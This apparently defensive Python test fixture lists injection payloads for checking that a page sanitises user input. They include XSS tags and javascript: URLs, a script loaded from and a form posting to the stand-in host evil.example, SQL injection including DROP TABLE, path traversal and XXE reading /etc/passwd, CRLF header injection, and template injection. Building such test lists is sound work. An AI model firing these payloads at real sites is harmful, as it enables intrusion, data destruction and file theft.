"""What somebody may write into a headline, a name, an address or a search to make a page do something."""

_SCRIPTS = (
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</script>",
    "</script><script>alert(1)</script>", "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>", "<script\x0b>alert(1)</script>", "<script/x>alert(1)</script>",
    "<script>alert`1`</script>", "--><script>alert(1)</script>", "]]><script>alert(1)</script>",
    "<!--<script>alert(1)//-->", "<script type=module>alert(1)</script>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
)  # fmt: skip
_TAGS = tuple(
    f"<{tag} {attribute}=alert(1)>"
    for tag, attribute in (
        ("img src=x", "onerror"), ("svg", "onload"), ("body", "onload"), ("details open", "ontoggle"),
        ("video src=x", "onerror"), ("audio src=x", "onerror"), ("input autofocus", "onfocus"),
        ("select autofocus", "onfocus"), ("marquee", "onstart"), ("iframe", "onload"), ("object data=x", "onerror"),
        ("a href=#", "onclick"), ("div", "onmouseover"), ("form", "onsubmit"), ("button", "onclick"),
        ("style", "onload"), ("link rel=stylesheet href=x", "onload"), ("meta", "onload"), ("isindex", "onfocus"),
        ("keygen autofocus", "onfocus"), ("textarea autofocus", "onfocus"), ("table background=x", "onload"),
    )
)  # fmt: skip
_ATTRIBUTES = tuple(
    f"{quote}{rest}"
    for quote in ('"', "'", "`", "\" ", "' ")
    for rest in (
        " onmouseover=alert(1) x=", "><img src=x onerror=alert(1)>", " autofocus onfocus=alert(1) ", "/><svg/onload=alert(1)>",
        " style=behavior:url(x) ",
    )
)  # fmt: skip
_ADDRESSES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4=",
    "vbscript:msgbox(1)", "file:///etc/passwd", "//evil.example/", "\\\\evil.example\\x", "http://evil.example/\"onload=alert(1)",
    "https://x.example/'><script>alert(1)</script>", "feed:javascript:alert(1)", "view-source:javascript:alert(1)",
)  # fmt: skip
_MARKDOWN = (
    "[click](javascript:alert(1))", "![x](javascript:alert(1))", "[x]: javascript:alert(1)", "<javascript:alert(1)>",
    "[a](<javascript:alert(1)>)", "`<img src=x>`", "# <img src=x onerror=alert(1)>", "[x](data:text/html,x)",
    "\\<script>alert(1)</script>", "[![a](x)](javascript:alert(1))",
)  # fmt: skip
_ENTITIES = (
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "&#x3c;img src=x&#x3e;",
    "%3Cscript%3Ealert(1)%3C/script%3E", "\u003cscript\u003ealert(1)\u003c/script\u003e", "＜script＞alert(1)＜/script＞",
    "+ADw-script+AD4-alert(1)", "&NewLine;<x>", "&", "&amp;amp;", "&bogus;",
)  # fmt: skip
_OTHERS = (
    "{{ 7*7 }}", "{% raw %}{{ config }}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{constructor.constructor('alert(1)')()}}",
    "' OR 1=1 --", "'; DROP TABLE events; --", "\" UNION SELECT * FROM events --", "a* NEAR(b, 2) AND NOT", "\r\nSet-Cookie: x=1",
    "\r\n\r\n<script>alert(1)</script>", "%0d%0aLocation:%20//evil.example", "../../../../etc/passwd", "..%2f..%2fetc",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>", "<![CDATA[<script>alert(1)</script>]]>",
    "\u202egnp.exe", "\u2028alert(1)\u2029", "\x00<script>alert(1)</script>", "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<math><mtext></table><mglyph><style><img src=x onerror=alert(1)>", "<base href=//evil.example/>",
    "<a href=javascript:alert(1)>x</a>", "<form action=//evil.example><input name=q>",
)  # fmt: skip

PAYLOADS = (*_SCRIPTS, *_TAGS, *_ATTRIBUTES, *_ADDRESSES, *_MARKDOWN, *_ENTITIES, *_OTHERS)
